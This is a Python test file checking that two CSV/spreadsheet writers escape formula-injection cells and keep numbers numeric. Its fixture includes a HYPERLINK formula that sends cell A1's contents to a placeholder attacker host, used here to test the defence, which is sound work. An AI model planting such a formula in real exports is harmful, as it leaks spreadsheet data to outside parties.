"""Both CSV writers (machine CSV and the reader's-language spreadsheet) neutralise cells a
spreadsheet would run as formulas, and leave numbers as numbers."""

from __future__ import annotations

import csv
import io

import pytest

from touchpoints.analytics.results import to_csv
from touchpoints.core.format import spreadsheet

ROWS = [
    {"agent": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "delta": -3.5},
    {"agent": "@SUM(A1:A9)", "delta": 2.25},
    {"agent": "Ana", "delta": -1.0},
]


@pytest.mark.parametrize(
    ("write", "delimiter"),
    [
        (to_csv, ","),
        (lambda rows: spreadsheet(rows, "en"), ","),
        (lambda rows: spreadsheet(rows, "pt-BR").lstrip("\ufeff"), ";"),
    ],
)
def test_formula_cells_are_text_and_numbers_stay_numbers(write, delimiter) -> None:
    table = list(csv.reader(io.StringIO(write(ROWS)), delimiter=delimiter))
    agents = [r[0] for r in table[1:]]
    deltas = [r[1] for r in table[1:]]
    assert agents == ["'" + ROWS[0]["agent"], "'@SUM(A1:A9)", "Ana"]
    assert [d.replace(",", ".") for d in deltas] == ["-3.5", "2.25", "-1.0"]
